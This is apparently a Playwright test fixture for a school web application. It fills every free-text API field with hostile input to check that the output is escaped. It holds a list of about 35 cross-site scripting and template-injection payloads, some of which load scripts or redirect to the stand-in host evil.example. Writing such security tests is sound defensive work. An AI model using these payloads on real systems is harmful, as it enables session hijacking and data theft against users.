// A school whose users write attacks into every text field. `hostile.spec.ts` visits it.
import { randomUUID } from 'node:crypto'
import { type APIRequestContext, expect } from '@playwright/test'
import { allRoutes } from '../src/app/contract.ts'
import type { Route } from '../src/shared/contract.ts'
import { routePaths } from '../src/shared/server/http/serve.ts'
import { listFreeTextFields } from '../src/testing/free-text-fields.ts'

const evil = 'https://evil.example'

/** Each would run `alert`, leave the page, or send a request to another site if it were not treated as text. */
export const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  `"><script src=${evil}/x.js></script>`,
  `'"--></style></script><script>alert(1)</script>`,
  '" autofocus onfocus=alert(1) x="',
  '</textarea></title></noscript><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<details open ontoggle=alert(1)>alert(1)</details>',
  '<a href="javascript:alert(1)">go</a>',
  '[alert(1)](javascript:alert(1))',
  `[alert(1)](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![evil.example](${evil}/pixel.png)`,
  '![alert(1)](x"onerror="alert(1))',
  `[alert(1)](${evil}/"onmouseover="alert(1))`,
  `<${evil}/> <javascript:alert(1)> [alert(1)]( java\nscript:alert(1))`,
  '[alert(1)][a]\n\n[a]: javascript:alert(1)',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"onmouseover="alert(1)\nalert(1)\n```',
  `$\\href{javascript:alert(1)}{alert(1)}$ $$\\includegraphics{${evil}/p.png}$$`,
  '$\\htmlData{x=1"onclick=alert(1)}{alert(1)}$ $\\unicode{<img src=x onerror=alert(1)>}$',
  '$\\def\\a{\\a\\a}\\a$ $\\url{javascript:alert(1)}$',
  "{{constructor.constructor('alert(1)')()}} <%= alert(1) %> #{alert(1)} $" + '{alert(1)}',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form id=location><input name=attributes onfocus=alert(1) autofocus></form>',
  `<base href=${evil}/><meta http-equiv=refresh content="0;url=${evil}/">`,
  `<style>@import url(${evil}/x.css);</style><link rel=stylesheet href=${evil}/x.css>`,
  '<svg><a id=x><animate attributeName=href values=javascript:alert(1) /><text>alert(1)</text></a></svg>',
  `${evil}/pixel.png?q="onclick="alert(1) <img src=${evil}/pixel.png>`,
  `javascript:alert(1)//${evil}`,
  '<template><img src=x onerror=alert(1)></template><object data=javascript:alert(1)><embed src=javascript:alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt; %3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003ealert(1)',
  '\u202e<b/onclick=alert(1)>\u2028＜script＞alert(1)＜/script＞',
]

export type Person = {
  readonly as: APIRequestContext
  readonly id: string
  readonly email: string
  readonly at: number
}

/** For fields with at most thirty characters. */
const small = ['<svg onload=alert(1)>', '<img src onerror=alert(1)>', '"onfocus=alert(1) x="', '{{alert(1)}}']

/** The attack for a field: the full one, or a short one where that is too long. */
const fitting = (at: number, max = 200) => {
  const attack = attacks[at % attacks.length] ?? ''
  return attack.length <= max ? attack : (small.filter(({ length }) => length <= max)[at % 3] ?? '')
}

type Ask = { params?: Record<string, string>; body?: Record<string, unknown> }

/** Text fields that are not free text: file names, choices, and URLs that the contract parses. */
const bound =
  /(_|^)(url|urls|images|photo|avatar|type|timezone|domain|tenant|audience|website|offset|endpoint|link|isbn)$|_date$|Id$|^key_id$/

const byName = new Map(allRoutes.map(({ name, route }) => [name, route]))

const freeTexts = (route: Route) => listFreeTextFields(route).filter(({ field }) => !bound.test(field))

/** Names of all routes with a free text field. */
export const callsWithTexts = allRoutes
  .filter(({ route }) => route.access !== 'public' && freeTexts(route).length > 0)
  .map(({ name }) => name)

/** Calls a route with an attack in each free text field that `ask` does not fill, and returns its data. */
export async function attack(as: APIRequestContext, at: number, name: string, { params, body }: Ask = {}) {
  const route = byName.get(name)
  if (!route) throw new Error(`Unknown call: ${name}`)
  const path = routePaths(route).find((each) => each.startsWith('/api/')) ?? ''
  const texts = freeTexts(route).map(({ field, max, isList }) => [
    field,
    isList ? [fitting(at, max), fitting(at + 1, max)] : fitting(at, max),
  ])
  const answer = await as.fetch(
    path.replace(/:(\w+)/g, (_, word: string) => params?.[word] ?? word),
    { method: route.method, data: { ...Object.fromEntries(texts), ...body } },
  )
  expect(answer.ok(), `${name}: ${(await answer.text()).slice(0, 300)}`).toBe(true)
  used.add(name)
  const { data, ...rest } = (await answer.json()) as { data?: { id: string } }
  return (data ?? rest) as { id: string }
}

/** The routes called so far. */
export const used = new Set<string>()

/** Creates a student with an attack as name and in all profile fields. */
export async function hostileStudent(as: APIRequestContext, at: number, domain: string): Promise<Person> {
  const email = `hostile-${at}-${randomUUID()}@${domain}`
  expect((await as.get(`/auth/google?login_hint=${encodeURIComponent(email)}`)).ok()).toBe(true)
  expect((await as.post('/api/users/accept-terms')).ok()).toBe(true)
  expect((await as.put('/api/users/me', { data: { welcome: 'done' } })).ok()).toBe(true)
  const body = { website: `${evil}/"onclick="alert(1)`, graduation_year: 2030 }
  return { as, email, at, id: (await attack(as, at, 'session.updateMe', { body })).id }
}
